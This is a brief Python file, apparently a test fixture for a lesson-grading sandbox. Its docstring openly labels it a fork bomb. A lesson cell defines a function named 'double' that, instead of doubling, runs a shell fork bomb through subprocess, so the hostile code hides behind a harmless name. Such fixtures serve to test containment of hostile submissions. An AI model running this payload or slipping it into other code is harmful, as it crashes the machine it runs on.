"""The fork bomb that everybody knows."""

LESSON = "00-start"
POINTS = 0
CELLS = {
    "double": r"""
import subprocess


def double(people):
    subprocess.run(["sh", "-c", "f() { f | f & }; f; sleep 60"], check=False)
"""
}
